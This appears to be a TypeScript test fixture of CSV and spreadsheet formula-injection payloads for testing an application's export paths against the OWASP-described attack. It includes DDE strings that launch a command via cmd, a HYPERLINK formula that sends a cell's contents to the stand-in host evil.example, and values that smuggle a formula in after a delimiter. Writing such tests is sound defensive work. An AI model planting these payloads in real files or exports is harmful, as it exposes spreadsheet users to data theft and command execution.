/**
 * Texts that a spreadsheet would run if they are typed, pasted or opened as a file. Each path by which texts leave
 * Trace is tried with all of them: https://owasp.org/www-community/attacks/CSV_Injection.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
  "=cmd|'/c calc'!A1",
  "-2+3+cmd|' /c calc'!A1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
];

/**
 * Texts with such a payload after a character that another program, or one in another language, takes for the end of
 * a cell.
 */
export const HIDDEN_PAYLOADS: readonly string[] = [
  ...FORMULA_PAYLOADS.map((payload) => `Stripe;${payload}`),
  'Stripe\t=1+1',
  'Stripe\n=1+1',
  'Stripe\r\n@SUM(1,1)',
  'Stripe";=1+1',
  'Stripe;"=1+1"',
  'Stripe;;=1+1',
  'Stripe";"=1+1',
];
